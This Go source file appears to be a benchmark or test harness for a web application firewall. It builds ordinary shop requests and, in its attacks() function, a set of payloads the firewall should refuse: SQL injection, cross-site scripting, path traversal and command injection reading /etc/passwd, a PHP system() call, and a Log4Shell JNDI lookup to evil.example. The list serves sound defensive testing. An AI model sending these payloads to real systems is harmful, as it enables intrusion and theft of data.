package main

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"strings"

	"fastness/internal/engine/waf/request"
)

// message is a request of a browser. Those of a kind differ in what differs between users: values of
// arguments, cookies, fields of a form, items of a document.
type message struct {
	method, target string
	fields         []request.Field
	body           []byte
	// attack tells that the Core Rule Set is to refuse it.
	attack bool
}

// kinds are the kinds of requests by their names, in the order of the table.
var kinds = []struct {
	name string
	make func(n int) message
}{{"GET", page}, {"form", form}, {"JSON", document}}

// page is a page view: 7 arguments, 9 header fields and the host, 4 cookies.
func page(n int) message {
	return message{
		method: "GET",
		target: fmt.Sprintf("/shop/search?q=rock+%%26+roll+%d&page=%d&sort=price_asc&brand=Acme%%20%%26%%20Sons+%d&min=%d&max=%d&ref=newsletter-%d", n, n%97, n, n, n+240, n),
		fields: []request.Field{
			{Name: "Host", Value: "shop.example"},
			{Name: "User-Agent", Value: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"},
			{Name: "Accept", Value: "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
			{Name: "Accept-Language", Value: "en-GB,en;q=0.9,de;q=0.8"},
			{Name: "Accept-Encoding", Value: "gzip, deflate, br, zstd"},
			{Name: "Referer", Value: "https://shop.example/shop/category/vinyl?sort=new"},
			{Name: "Cookie", Value: fmt.Sprintf("session=5f1c9f64a1f0b7d2c3%d; theme=dark; _ga=GA1.2.1234567890.%d; cart=eyJpdGVtcyI6W119", n, n)},
			{Name: "Upgrade-Insecure-Requests", Value: "1"},
			{Name: "Sec-Fetch-Mode", Value: "navigate"},
		},
	}
}

// form is a form of 500 bytes with 18 arguments.
func form(n int) message {
	m := page(n)
	m.method, m.target = "POST", "/shop/checkout"
	var b strings.Builder
	for i := range 18 {
		if i > 0 {
			b.WriteByte('&')
		}
		fmt.Fprintf(&b, "field_%02d=%s+%d", i, []string{"Jane+Doe", "221B+Baker+Street", "London", "jane.doe%40mail.example", "Please+ring+the+bell", "2026-03-01"}[i%6], n+i)
	}
	return m.with("application/x-www-form-urlencoded", []byte(b.String()))
}

// document is a JSON body of 5 KB: 40 objects, 240 leaves.
func document(n int) message {
	m := page(n)
	m.method, m.target = "POST", "/api/orders"
	type item struct {
		ID       int      `json:"id"`
		Name     string   `json:"name"`
		Price    float64  `json:"price"`
		Stock    bool     `json:"in_stock"`
		Tags     []string `json:"tags"`
		Supplier string   `json:"supplier"`
	}
	var items []item
	for i := range 40 {
		items = append(items, item{10000 + i + n, fmt.Sprintf("Vinyl record no. %d (180 g, limited)", i+n), 19.99, i%2 == 0, []string{"vinyl"}, "Acme and Sons GmbH"})
	}
	body, err := json.Marshal(items)
	if err != nil {
		panic(err) // numbers and strings
	}
	return m.with("application/json", body)
}

// varied is where the numbers of messages begin that vary changes: they have nine digits.
const varied = 100_000_000

// vary makes another message of one: it adds to all numbers of nine digits and more, in their last nine.
func vary(wire []byte) {
	const step = 79 // more than there are items in a document
	for i := 0; i < len(wire); i++ {
		from := i
		for i < len(wire) && wire[i]-'0' < 10 {
			i++
		}
		if i-from < 9 {
			continue
		}
		add := step
		for k := i - 1; add > 0 && k >= i-9; k-- {
			add += int(wire[k] - '0')
			wire[k] = byte('0' + add%10)
			add /= 10
		}
	}
}

func (m message) with(contentType string, body []byte) message {
	m.body = body
	m.fields = append(m.fields, request.Field{Name: "Content-Type", Value: contentType}, request.Field{Name: "Content-Length", Value: fmt.Sprint(len(body))})
	return m
}

// attacks are requests that the Core Rule Set refuses at its first paranoia level.
func attacks() []message {
	var all []message
	for _, target := range []string{
		"/shop/search?q=1%27+or+1%3D1--+-", "/shop/search?q=1+union+select+name,password+from+users--", "/shop/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/shop/search?q=../../../../etc/passwd",
		"/shop/search?q=;cat+/etc/passwd", "/shop/search?q=${jndi:ldap://evil.example/a}", "/shop/search?q=%3C?php+system('id');", "/shop/search?q=%3Cimg+src=x+onerror=alert(1)%3E",
	} {
		m := page(1)
		m.target, m.attack = target, true
		all = append(all, m)
	}
	f := page(1).with("application/x-www-form-urlencoded", []byte("a=1&b=x%27+or+sleep(5)--+-"))
	f.method, f.attack = "POST", true
	return append(all, f)
}

// request is the message for this engine.
func (m message) request() *request.Request {
	return &request.Request{
		Method: m.method, Proto: "HTTP/1.1", Host: "shop.example", Scheme: "http", Remote: netip.MustParseAddr("192.0.2.7"),
		Target: m.target, Fields: m.fields, Body: m.body,
	}
}

// wire is the message as it goes over a connection.
func (m message) wire() []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", m.method, m.target)
	for _, f := range m.fields {
		fmt.Fprintf(&b, "%s: %s\r\n", f.Name, f.Value)
	}
	b.WriteString("\r\n")
	return append([]byte(b.String()), m.body...)
}
